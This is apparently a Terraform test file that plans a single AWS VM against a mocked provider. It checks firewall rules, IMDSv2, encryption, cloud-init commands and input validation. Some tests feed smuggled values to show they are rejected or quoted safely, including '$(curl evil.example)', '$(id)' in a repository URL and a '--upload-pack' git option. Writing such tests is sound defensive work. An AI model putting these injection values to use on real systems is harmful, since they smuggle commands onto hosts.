# mode = "single" planned against a mocked AWS provider (no cloud account is reachable from tests):
# what the plan would create, and which inputs the variables refuse.

mock_provider "aws" {
  source          = "./tests/mocks"
  override_during = plan # mocked ids and addresses are known in the plan, so outputs can be checked
}

variables {
  repo_url = "https://git.example.com/team/modelstack.git"
}

override_resource {
  target          = aws_security_group.instance
  override_during = plan
  values          = { id = "sg-0instance" }
}

override_resource {
  target          = aws_network_interface.web
  override_during = plan
  values          = { id = "eni-0123456789abcdef0" }
}

run "one_vm_serves_http_and_https" {
  command = plan

  assert {
    condition = {
      for key, rule in aws_vpc_security_group_ingress_rule.public :
      key => [rule.security_group_id == "sg-0instance", rule.from_port, rule.to_port, rule.cidr_ipv4]
      } == {
      "http from 0.0.0.0/0"  = [true, 80, 80, "0.0.0.0/0"]
      "https from 0.0.0.0/0" = [true, 443, 443, "0.0.0.0/0"]
    }
    error_message = "The VM must take exactly HTTP and HTTPS from the internet."
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.ssh) == 0
    error_message = "SSH must stay closed when ssh_cidr is not set."
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.monitoring) == 0 && output.monitoring_tunnel == null
    error_message = "Without monitoring no monitoring port opens and there is no tunnel to it."
  }
  assert {
    condition     = aws_instance.web[0].metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required."
  }
  assert {
    condition = [
      for disk in aws_instance.web[0].root_block_device : [disk.volume_type, disk.encrypted, disk.volume_size]
    ] == [["gp3", true, 20]]
    error_message = "The root volume must be an encrypted 20 GiB gp3 volume."
  }
  assert {
    condition     = aws_instance.web[0].ami == "ami-0123456789abcdef0" && aws_instance.web[0].instance_type == "t3.small"
    error_message = "The VM must run the looked-up image on the default instance type."
  }
  assert {
    # The mocked default VPC lists its subnets unsorted; the choice must not depend on API order.
    condition     = aws_network_interface.web[0].subnet_id == "subnet-0aaaaaaaaaaaaaaaa"
    error_message = "The VM must go into the first default subnet by id."
  }
  assert {
    condition = alltrue([
      aws_network_interface.web[0].security_groups == toset(["sg-0instance"]),
      one(aws_instance.web[0].network_interface).network_interface_id == "eni-0123456789abcdef0",
      one(aws_instance.web[0].network_interface).device_index == 0,
    ])
    error_message = "The VM's primary network interface must carry the instance security group."
  }
  assert {
    condition     = aws_eip.web[0].network_interface == "eni-0123456789abcdef0" && aws_eip.web[0].domain == "vpc"
    error_message = "The VM's network interface must get an Elastic IP."
  }
  assert {
    condition     = aws_instance.web[0].iam_instance_profile == aws_iam_instance_profile.instance.name
    error_message = "The VM must carry the SSM instance profile."
  }
  assert {
    condition     = aws_iam_role_policy_attachment.ssm.policy_arn == "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    error_message = "The instance role must allow SSM Session Manager."
  }
  assert {
    condition     = jsondecode(aws_iam_role.instance.assume_role_policy).Statement[0].Principal.Service == "ec2.amazonaws.com"
    error_message = "Only EC2 may assume the instance role."
  }
  assert {
    condition = yamldecode(aws_instance.web[0].user_data) == {
      package_update = true
      packages       = ["git", "curl"]
      runcmd = [
        "set -e",
        ["curl", "-fsSL", "--retry", "5", "-o", "/run/amazon-ssm-agent.deb", "https://s3.us-east-1.amazonaws.com/amazon-ssm-us-east-1/latest/debian_amd64/amazon-ssm-agent.deb"],
        ["dpkg", "-i", "/run/amazon-ssm-agent.deb"],
        ["git", "clone", "https://git.example.com/team/modelstack.git", "/opt/modelstack"],
        ["git", "-C", "/opt/modelstack", "checkout", "main"],
        ["env", "/opt/modelstack/deploy/install.sh"],
      ]
    }
    error_message = "cloud-init must install the SSM agent (Debian lacks it), clone the repository, check out the ref and run deploy/install.sh (no TLS settings without a domain); got ${aws_instance.web[0].user_data}"
  }
  assert {
    condition     = startswith(aws_instance.web[0].user_data, "#cloud-config\n")
    error_message = "cloud-init reads user data as cloud-config only with the #cloud-config header."
  }
  assert {
    condition = alltrue([
      length(aws_lb.web) == 0, length(aws_lb_listener.http) == 0, length(aws_lb_listener.https) == 0,
      length(aws_lb_target_group.web) == 0, length(aws_launch_template.web) == 0,
      length(aws_autoscaling_group.web) == 0, length(aws_autoscaling_policy.cpu) == 0,
      length(aws_security_group.alb) == 0,
    ])
    error_message = "Single mode must create no load balancer or Auto Scaling Group."
  }
  assert {
    condition     = output.url == "http://198.51.100.7"
    error_message = "Without a domain the URL is plain HTTP on the Elastic IP; got ${output.url}."
  }
  assert {
    condition     = output.instance_id == "i-0123456789abcdef0" && output.connect == "aws ssm start-session --region us-east-1 --target i-0123456789abcdef0"
    error_message = "The outputs must name the instance and the SSM command to reach it; got ${output.connect}."
  }
}

run "domain_and_email_turn_on_tls" {
  command = plan

  variables {
    git_ref = "v1.2.0"
    domain  = "models.example.com"
    email   = "ops@example.com"
  }

  assert {
    condition = slice(yamldecode(aws_instance.web[0].user_data).runcmd, 3, 6) == [
      ["git", "clone", "https://git.example.com/team/modelstack.git", "/opt/modelstack"],
      ["git", "-C", "/opt/modelstack", "checkout", "v1.2.0"],
      ["env", "DOMAIN=models.example.com", "EMAIL=ops@example.com", "/opt/modelstack/deploy/install.sh"],
    ]
    error_message = "cloud-init must pass DOMAIN and EMAIL to install.sh and check out the given ref."
  }
  assert {
    condition     = output.url == "https://models.example.com"
    error_message = "With a domain the URL is HTTPS on that domain; got ${output.url}."
  }
}

run "user_data_quotes_every_value" {
  command = plan

  variables {
    # YAML and shell metacharacters that must reach git and install.sh unchanged.
    repo_url    = "https://git.example.com/a'b/\"c\"/#d:e.git?x=$(id)"
    install_env = { WORKERS = "2", RATE_LIMIT_EXEMPT = "127.0.0.0/8 ::1 203.0.113.7/32" }
  }

  assert {
    condition = yamldecode(aws_instance.web[0].user_data).runcmd[3] == [
      "git", "clone", "https://git.example.com/a'b/\"c\"/#d:e.git?x=$(id)", "/opt/modelstack",
    ]
    error_message = "The repository URL must survive YAML and shell quoting."
  }
  assert {
    condition = yamldecode(aws_instance.web[0].user_data).runcmd[5] == [
      "env", "RATE_LIMIT_EXEMPT=127.0.0.0/8 ::1 203.0.113.7/32", "WORKERS=2", "/opt/modelstack/deploy/install.sh",
    ]
    error_message = "install_env must reach install.sh as separate, intact arguments."
  }
}

run "ssh_opens_only_for_the_given_range" {
  command = plan

  variables {
    ssh_cidr     = "203.0.113.7/32"
    ssh_key_name = "ops"
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.ssh) == 1
    error_message = "Exactly one SSH rule must exist."
  }
  assert {
    condition = alltrue([
      aws_vpc_security_group_ingress_rule.ssh[0].security_group_id == "sg-0instance",
      aws_vpc_security_group_ingress_rule.ssh[0].ip_protocol == "tcp",
      aws_vpc_security_group_ingress_rule.ssh[0].from_port == 22,
      aws_vpc_security_group_ingress_rule.ssh[0].to_port == 22,
      aws_vpc_security_group_ingress_rule.ssh[0].cidr_ipv4 == "203.0.113.7/32",
      aws_vpc_security_group_ingress_rule.ssh[0].cidr_ipv6 == null,
    ])
    error_message = "SSH must open on port 22 of the VM for exactly ssh_cidr."
  }
  assert {
    condition     = aws_instance.web[0].key_name == "ops"
    error_message = "The VM must get the named key pair."
  }
}

run "ssh_accepts_an_ipv6_range" {
  command = plan

  variables {
    ssh_cidr = "2001:db8::/64"
  }

  assert {
    condition     = aws_vpc_security_group_ingress_rule.ssh[0].cidr_ipv6 == "2001:db8::/64" && aws_vpc_security_group_ingress_rule.ssh[0].cidr_ipv4 == null
    error_message = "An IPv6 ssh_cidr must become an IPv6 rule."
  }
}

run "ssh_from_anywhere_is_rejected" {
  command = plan

  variables {
    ssh_cidr = "0.0.0.0/0"
  }

  expect_failures = [var.ssh_cidr]
}

run "ssh_from_anywhere_ipv6_is_rejected" {
  command = plan

  variables {
    ssh_cidr = "::/0"
  }

  expect_failures = [var.ssh_cidr]
}

run "ssh_from_any_zero_length_prefix_is_rejected" {
  command = plan

  variables {
    ssh_cidr = "10.0.0.0/0"
  }

  expect_failures = [var.ssh_cidr]
}

run "ssh_key_without_ssh_cidr_is_rejected" {
  command = plan

  variables {
    ssh_key_name = "ops"
  }

  expect_failures = [var.ssh_key_name]
}

run "monitoring_stays_behind_a_tunnel" {
  command = plan

  variables {
    monitoring = true
  }

  assert {
    condition     = yamldecode(aws_instance.web[0].user_data).runcmd[5] == ["env", "MONITORING=1", "/opt/modelstack/deploy/install.sh"]
    error_message = "monitoring must reach install.sh as MONITORING=1."
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.monitoring) == 0
    error_message = "Without monitoring_cidr Grafana and Prometheus must stay closed."
  }
  assert {
    condition     = output.monitoring_tunnel == "aws ssm start-session --region us-east-1 --target i-0123456789abcdef0 --document-name AWS-StartPortForwardingSession --parameters '{\"portNumber\":[\"3000\"],\"localPortNumber\":[\"3000\"]}'"
    error_message = "The monitoring_tunnel output must forward Grafana's port through SSM; got ${output.monitoring_tunnel}."
  }
}

run "monitoring_opens_only_for_the_given_range" {
  command = plan

  variables {
    monitoring      = true
    monitoring_cidr = "203.0.113.7/32"
  }

  assert {
    condition = {
      for key, rule in aws_vpc_security_group_ingress_rule.monitoring :
      key => [rule.security_group_id, rule.ip_protocol, rule.from_port, rule.to_port, rule.cidr_ipv4]
      } == {
      grafana    = ["sg-0instance", "tcp", 3000, 3000, "203.0.113.7/32"]
      prometheus = ["sg-0instance", "tcp", 9090, 9090, "203.0.113.7/32"]
    }
    error_message = "Grafana (3000) and Prometheus (9090) must open on the VM for exactly monitoring_cidr."
  }
  assert {
    condition = yamldecode(aws_instance.web[0].user_data).runcmd[5] == [
      "env", "MONITORING=1", "MONITORING_CIDR=203.0.113.7/32", "/opt/modelstack/deploy/install.sh",
    ]
    error_message = "install.sh must get the same range, so that it binds Prometheus and Grafana beyond loopback."
  }
}

run "monitoring_from_anywhere_is_rejected" {
  command = plan

  variables {
    monitoring      = true
    monitoring_cidr = "0.0.0.0/0"
  }

  expect_failures = [var.monitoring_cidr]
}

run "monitoring_cidr_without_monitoring_is_rejected" {
  command = plan

  variables {
    monitoring_cidr = "203.0.113.7/32"
  }

  expect_failures = [var.monitoring_cidr]
}

run "monitoring_cidr_must_be_ipv4" {
  command = plan

  variables {
    monitoring      = true
    monitoring_cidr = "2001:db8::/64"
  }

  expect_failures = [var.monitoring_cidr]
}

run "install_env_cannot_bypass_the_monitoring_variables" {
  command = plan

  variables {
    install_env = { MONITORING_CIDR = "203.0.113.7/32" }
  }

  expect_failures = [var.install_env]
}

run "allowed_cidrs_narrow_the_public_ports" {
  command = plan

  variables {
    allowed_cidrs = ["203.0.113.0/24", "198.51.100.0/24"]
  }

  assert {
    condition = sort([for rule in aws_vpc_security_group_ingress_rule.public : "${rule.from_port} ${rule.cidr_ipv4}"]) == tolist([
      "443 198.51.100.0/24", "443 203.0.113.0/24", "80 198.51.100.0/24", "80 203.0.113.0/24",
    ])
    error_message = "HTTP and HTTPS must open for each allowed range and nothing else."
  }
}

run "graviton_types_get_an_arm64_image" {
  command = plan

  variables {
    instance_type = "t4g.small"
  }

  override_data {
    target = data.aws_ec2_instance_type.selected
    values = { supported_architectures = ["arm64"] }
  }

  assert {
    condition = tomap({ for f in data.aws_ami.selected.filter : f.name => one(f.values) }) == tomap({
      "name"                = "debian-12-arm64-*"
      "architecture"        = "arm64"
      "virtualization-type" = "hvm"
      "root-device-type"    = "ebs"
    })
    error_message = "An arm64 instance type must select the arm64 Debian 12 image."
  }
  assert {
    condition     = strcontains(aws_instance.web[0].user_data, "\"https://s3.us-east-1.amazonaws.com/amazon-ssm-us-east-1/latest/debian_arm64/amazon-ssm-agent.deb\"")
    error_message = "An arm64 VM must get the arm64 SSM agent."
  }
  assert {
    condition     = data.aws_ami.selected.owners == tolist(["136693071363"]) && data.aws_ami.selected.most_recent
    error_message = "Debian images must come from Debian's own account, newest first."
  }
}

run "ubuntu_comes_from_canonical" {
  command = plan

  variables {
    os = "ubuntu-24.04"
  }

  assert {
    condition     = data.aws_ami.selected.owners == tolist(["099720109477"])
    error_message = "Ubuntu images must come from Canonical's account."
  }
  assert {
    condition     = [for f in data.aws_ami.selected.filter : one(f.values) if f.name == "name"] == ["ubuntu/images/hvm-ssd-gp3/ubuntu-noble-24.04-amd64-server-*"]
    error_message = "ubuntu-24.04 must select the amd64 Noble server image."
  }
  assert {
    condition     = !strcontains(aws_instance.web[0].user_data, "amazon-ssm-agent") && startswith(yamldecode(aws_instance.web[0].user_data).runcmd[1][1], "clone")
    error_message = "Ubuntu images have the SSM agent already: cloud-init must go straight to the installation."
  }
}

run "given_subnets_pick_their_vpc" {
  command = plan

  variables {
    subnet_ids = ["subnet-0123456789abcdef0"]
  }

  assert {
    condition     = aws_network_interface.web[0].subnet_id == "subnet-0123456789abcdef0" && length(data.aws_subnets.default) == 0
    error_message = "Given subnets must be used as they are."
  }
  assert {
    condition     = data.aws_vpc.selected.id == "vpc-0fedcba9876543210" && aws_security_group.instance.vpc_id == "vpc-0fedcba9876543210"
    error_message = "The VPC must be the given subnet's, not the default VPC."
  }
}

run "domain_without_email_is_rejected" {
  command = plan

  variables {
    domain = "models.example.com"
  }

  expect_failures = [var.email]
}

run "certificate_arn_is_for_scaled_mode" {
  command = plan

  variables {
    domain          = "models.example.com"
    email           = "ops@example.com"
    certificate_arn = "arn:aws:acm:us-east-1:123456789012:certificate/0a1b2c3d-1111-2222-3333-444455556666"
  }

  expect_failures = [var.certificate_arn]
}

run "plain_http_repo_url_is_rejected" {
  command = plan

  variables {
    repo_url = "http://git.example.com/team/modelstack.git"
  }

  expect_failures = [var.repo_url]
}

run "option_like_git_ref_is_rejected" {
  command = plan

  variables {
    git_ref = "--upload-pack=touch /tmp/pwned"
  }

  expect_failures = [var.git_ref]
}

run "install_env_cannot_override_managed_settings" {
  command = plan

  variables {
    install_env = { TRUSTED_PROXIES = "0.0.0.0/0" }
  }

  expect_failures = [var.install_env]
}

run "api_keys_never_travel_in_user_data" {
  command = plan

  variables {
    install_env = { API_KEYS = "a-secret-that-user-data-would-leak" }
  }

  expect_failures = [var.install_env]
}

run "install_env_values_install_sh_refuses_are_rejected" {
  command = plan

  variables {
    install_env = { RATE_LIMIT_EXEMPT = "$(curl evil.example)" }
  }

  expect_failures = [var.install_env]
}

run "unknown_mode_is_rejected" {
  command = plan

  variables {
    mode = "cluster"
  }

  expect_failures = [var.mode]
}
